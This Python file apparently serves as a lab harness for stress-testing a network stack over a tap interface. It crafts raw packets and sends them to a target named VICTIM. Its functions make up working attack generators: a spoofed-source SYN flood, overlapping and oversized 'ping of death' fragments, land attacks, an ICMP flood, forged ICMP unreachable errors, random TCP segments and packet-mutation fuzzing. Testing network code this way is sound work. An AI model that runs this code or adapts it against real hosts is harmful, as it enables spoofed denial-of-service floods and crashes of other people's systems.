"""Frames as nobody's stack would send them, straight onto an interface."""
import random
import socket
import struct

from net_services import PEER as VICTIM, US


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip(source, protocol, payload, destination=VICTIM, identification=1, fragment=0, options=b""):
    words = 5 + len(options) // 4
    header = struct.pack("!BBHHHBBH4s4s", 0x40 + words, 0, words * 4 + len(payload), identification, fragment, 64, protocol,
                         0, socket.inet_aton(source), socket.inet_aton(destination)) + options
    return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + payload


def tcp(source, sport, dport, flags, sequence=1, acknowledgment=0, options=b"", payload=b"", window=1024, destination=VICTIM):
    words = 5 + len(options) // 4
    header = struct.pack("!HHIIBBHHH", sport, dport, sequence & 0xFFFFFFFF, acknowledgment & 0xFFFFFFFF, words << 4, flags, window,
                         0, 0) + options
    pseudo = socket.inet_aton(source) + socket.inet_aton(destination) + struct.pack("!BBH", 0, 6, len(header) + len(payload))
    return ip(source, 6, header[:16] + struct.pack("!H", checksum(pseudo + header + payload)) + header[18:] + payload, destination)


def icmp(kind, code, rest, payload):
    message = struct.pack("!BBH", kind, code, 0) + rest + payload
    return message[:2] + struct.pack("!H", checksum(message)) + message[4:]


class Wire:
    """Puts frames on an interface's way to whoever holds its tap, and sees what comes from there."""

    def __init__(self, interface, own, victim):
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
        self.socket.bind((interface, 0))
        self.own, self.victim = bytes.fromhex(own.replace(":", "")), bytes.fromhex(victim.replace(":", ""))

    def send(self, packet, kind=0x0800, to=None):
        self.frame((to or self.victim) + self.own + struct.pack("!H", kind) + packet)

    def frame(self, frame):
        try:
            self.socket.send(frame)
        except OSError:  # the queue is full: a flood does not wait
            pass


# Attacks: each yields frames' payloads for Wire.send(), as (packet, EtherType, destination).

def syn_flood(count):
    for i in range(count):
        source = f"{random.choice((11, 23, 99))}.{i >> 16 & 255}.{i >> 8 & 255}.{i & 255}"
        yield tcp(source, 1024 + i % 60000, 7, 0x02, i * 7919)


def first_fragments(count):
    for i in range(count):
        yield ip(f"11.0.{i >> 8 & 255}.{i & 255}", 17, bytes(1400), identification=i & 0xFFFF, fragment=0x2000)


def broken_fragments(count):
    for i in range(0, count, 4):
        yield ip("11.0.0.1", 17, bytes(64), identification=i & 0xFFFF, fragment=0x2000)
        yield ip("11.0.0.1", 17, bytes(64), identification=i & 0xFFFF, fragment=0x2004)   # overlaps
        yield ip("11.0.0.1", 1, bytes(1000), identification=i & 0xFFFF, fragment=0x1FFF)  # ping of death
        yield ip("11.0.0.1", 6, bytes(8), identification=i & 0xFFFF, fragment=0x2000)     # tiny


def land(count):
    for i in range(count):
        for source in (VICTIM, "127.0.0.1", "0.0.0.0", "255.255.255.255", "10.9.0.255", "224.0.0.1"):
            yield tcp(source, 7, 7, 0x02, i)


def blind_segments(count):
    for i in range(count):
        flags = random.choice((0x02, 0x04, 0x10, 0x11, 0x14, 0x18))
        yield tcp(US, random.randrange(32768, 61000), 7, flags, random.getrandbits(32), random.getrandbits(32), payload=bytes(i % 50))


def icmp_flood(count):
    for i in range(count):
        yield ip(US if i % 2 else f"10.9.0.{i % 200 + 20}", 1, icmp(8, 0, struct.pack("!HH", i & 0xFFFF, 1), bytes(i % 1400)))


def icmp_errors(count):
    for i in range(count):
        quoted = ip(VICTIM, 6, struct.pack("!HHI", 7, random.randrange(32768, 61000), random.getrandbits(32)), US)
        yield ip("10.9.0.77", 1, icmp(3, random.choice((0, 1, 2, 3, 4)), struct.pack("!HH", 0, 296), quoted))


def mutations(count, seeds):
    for i in range(count):
        packet = bytearray(random.choice(seeds))
        for _ in range(random.randrange(1, 5)):
            packet[random.randrange(len(packet))] ^= 1 << random.randrange(8)
        if random.randrange(8) == 0:
            del packet[random.randrange(1, len(packet)):]
        if random.randrange(2) and len(packet) >= 20:  # else nothing beyond the first check is reached
            packet[10:12] = b"\0\0"
            packet[10:12] = struct.pack("!H", checksum(bytes(packet[:20])))
        yield bytes(packet)


def arp(sender_mac, sender, target, operation):
    return struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, operation, sender_mac, socket.inet_aton(sender), bytes(6),
                       socket.inet_aton(target))
